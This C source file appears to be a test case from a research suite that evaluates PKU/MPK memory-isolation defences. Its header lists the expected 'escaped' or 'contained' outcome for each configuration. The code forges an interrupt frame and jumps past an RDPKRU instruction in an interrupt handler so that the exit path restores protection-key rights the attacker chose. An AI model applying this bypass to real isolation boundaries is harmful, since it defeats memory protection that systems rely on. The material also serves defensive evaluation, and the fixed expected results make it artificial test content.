/*
{
  "title": "A jump behind the RDPKRU of the handlers' way in, with rights of the extension's choice and a forged frame of a spurious interrupt, which is passed over: the way out restores what was forged",
  "precondition": "CR4.PKE = 1",
  "reference": "Connor et al., PKU Pitfalls: Attacks on PKU-based Memory Isolation Systems, USENIX Security 2020, section 4 (forged signal frames)",
  "symbols": ["interrupt_common"],
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I1", "event": "pkruWrite"},
    "mpk-hardened": {"outcome": "contained", "event": "exception"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "contained", "event": "exception"},
    "mpk-bundled": {"outcome": "contained"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"
#include "find.h"

void interrupt_common(void);

// What the way in has pushed when it saves PKRU: 15 registers, the vector, an error code, and what the processor pushes.
struct frame {
  uint64_t general[15], vector, error_code, rip, cs, flags, rsp, ss;
};

static void jump(uint64_t place) {
  // Room for the handler's own calls below.
  static uint64_t stack[2048];
  struct frame *frame = (struct frame *)(stack + 2048) - 1;
  uint64_t rights = 0, c = 0, d = 0;
  frame->vector = 0xff;
  __asm__ volatile("pushfq\n popq %0" : "=r"(frame->flags));
  __asm__ volatile(
      "movq %%rbp, 80(%4)\n"
      "movq %%rbx, 88(%4)\n"
      "leaq 1f(%%rip), %%r8\n"
      "movq %%r8, 136(%4)\n"
      "movw %%cs, 144(%4)\n"
      "movq %%rsp, 160(%4)\n"
      "movw %%ss, 168(%4)\n"
      "movq %4, %%rsp\n"
      "jmp *%3\n"
      "1:"
      : "+a"(rights), "+c"(c), "+d"(d), "+S"(place), "+D"(frame)
      :
      : "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15", "memory");
}

int main(void) {
  // mov %eax, %ebx: the PKRU that is given back at the end.
  BYPASS_OF_KEYS(jump(find((const void *)interrupt_common, "\x89\xc3\x31\xc0", 4)));
  GOAL_COUNT();
  return 0;
}
